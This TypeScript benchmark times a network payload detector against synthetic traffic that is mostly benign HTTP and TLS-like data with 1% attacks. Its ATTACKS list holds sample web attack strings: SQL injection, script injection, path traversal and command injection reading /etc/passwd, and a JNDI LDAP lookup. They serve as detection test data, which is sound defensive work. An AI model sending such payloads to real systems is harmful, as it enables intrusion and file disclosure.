/**
 * payload-match micro benchmark: payloads per second through the matcher
 * with the default rule set, on a mix like a home network's: mostly benign
 * HTTP requests and responses and binary (TLS-like) payloads, 1 % attacks.
 * Also: the detector with batches of 256 (suppression, alerts), and, for
 * comparison, one regex scan per rule instead of the anchor prefilter.
 */
import type { Packet } from '../lib/packet/types';
import { PayloadDetector, defaultRules } from '../lib/detect/payload/detector';
import { PayloadMatcher } from '../lib/detect/payload/matcher';

let seed = 42;
function rnd(n: number): number {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return (seed >> 8) % n;
}

const PATHS = ['/', '/index.html', '/static/app.3f9a.js', '/static/site.css', '/img/logo.png', '/api/v1/items?limit=20&offset=40', '/api/v1/search?q=red+shoes&sort=price', '/login', "/api/users?name=O'Brien&city=St.%20John%27s", '/feed.xml'];
const ATTACKS = ['/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--', '/s?q=%3Cscript%3Ealert(1)%3C/script%3E', '/f?p=..%2f..%2f..%2fetc%2fpasswd', '/ping?host=1.1.1.1;cat%20/etc/passwd', '/?x=${jndi:ldap://10.0.0.9/a}', "/item?id=1' AND 1234=1234-- "];

function request(path: string): string {
  return `GET ${path} HTTP/1.1\r\nHost: shop.lan\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\nCookie: session=a8f7c6e5d4; theme=dark\r\nConnection: keep-alive\r\n\r\n`;
}

function response(): string {
  const rows = Array.from({ length: 12 }, (_, i) => `<li class="item"><a href="/item?id=${i}">Item ${i}</a> <span>${(i * 3.7).toFixed(2)} EUR</span></li>`).join('\n');
  return `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 1200\r\n\r\n<html><head><script src="/static/app.js"></script></head><body onload="init()"><ul>${rows}</ul></body></html>`;
}

function binary(len: number): Buffer {
  const b = Buffer.alloc(len);
  for (let i = 0; i < len; i++) b[i] = rnd(256);
  return b;
}

function makeMix(n: number): Packet[] {
  const out: Packet[] = [];
  for (let i = 0; i < n; i++) {
    const r = rnd(100);
    let payload: Buffer;
    let sport = 40000 + rnd(20000);
    let dport = 80;
    if (r === 0) payload = Buffer.from(request(ATTACKS[rnd(ATTACKS.length)]), 'latin1');
    else if (r < 30) payload = Buffer.from(request(PATHS[rnd(PATHS.length)]), 'latin1');
    else if (r < 45) {
      payload = Buffer.from(response(), 'latin1');
      [sport, dport] = [80, sport];
    } else if (r < 85) {
      payload = binary(r < 65 ? 1400 : 200 + rnd(1000));
      dport = 443;
    } else payload = Buffer.alloc(0); // ACKs
    out.push({ ts: 1_700_000_000_000 + i, len: payload.length + 54, caplen: payload.length + 54, ip: 4, src: `10.0.${rnd(4)}.${1 + rnd(250)}`, dst: '10.0.9.1', proto: 'tcp', sport, dport, flags: 'PA', payload });
  }
  return out;
}

function measure(label: string, packets: Packet[], bytes: number, run: () => void, minMs = 2000): void {
  run(); // warm-up
  let rounds = 0;
  const t0 = process.hrtime.bigint();
  let elapsed = 0;
  while (elapsed < minMs) {
    run();
    rounds++;
    elapsed = Number(process.hrtime.bigint() - t0) / 1e6;
  }
  const pps = (packets.length * rounds) / (elapsed / 1000);
  const mbps = (bytes * rounds) / (elapsed / 1000) / 1e6;
  console.log(`${label.padEnd(52)} ${Math.round(pps).toLocaleString('en-US').padStart(12)} payloads/s  ${mbps.toFixed(1).padStart(7)} MB/s`);
}

const packets = makeMix(20_000);
const bytes = packets.reduce((s, p) => s + p.payload.length, 0);
const rules = defaultRules();
const matcher = new PayloadMatcher(rules);
let hits = 0;
for (const p of packets) hits += matcher.match(p).length;
console.log(`mix: ${packets.length} payloads, ${(bytes / 1e6).toFixed(1)} MB, ${rules.length} default rules, ${hits} rule hits`);

measure('matcher: anchor automaton + confirm (default rules)', packets, bytes, () => {
  for (let i = 0; i < packets.length; i++) matcher.match(packets[i]);
});

for (const [label, pick] of [
  ['  of which: benign HTTP requests only', (p: Packet) => p.dport === 80 && p.payload.length > 0 && !ATTACKS.some((a) => p.payload.includes(a))],
  ['  of which: binary (TLS-like) payloads only', (p: Packet) => p.dport === 443],
] as const) {
  const subset = packets.filter(pick);
  const subsetBytes = subset.reduce((s, p) => s + p.payload.length, 0);
  measure(label, subset, subsetBytes, () => {
    for (let i = 0; i < subset.length; i++) matcher.match(subset[i]);
  }, 1000);
}

const detector = new PayloadDetector('bench', { cooldownS: 10 });
measure('detector, batches of 256 (alerts, suppression)', packets, bytes, () => {
  for (let i = 0; i < packets.length; i += 256) detector.process(packets.slice(i, i + 256));
});

// For comparison only: every rule's regex over the latin1 text (no decoding, no prefilter).
const perRule = rules.map((r) => new RegExp(r.source, r.nocase ? 'i' : ''));
measure('for comparison: one regex scan per rule', packets, bytes, () => {
  for (let i = 0; i < packets.length; i++) {
    const p = packets[i].payload;
    if (p.length === 0) continue;
    const text = p.toString('latin1');
    for (let j = 0; j < perRule.length; j++) perRule[j].test(text);
  }
});
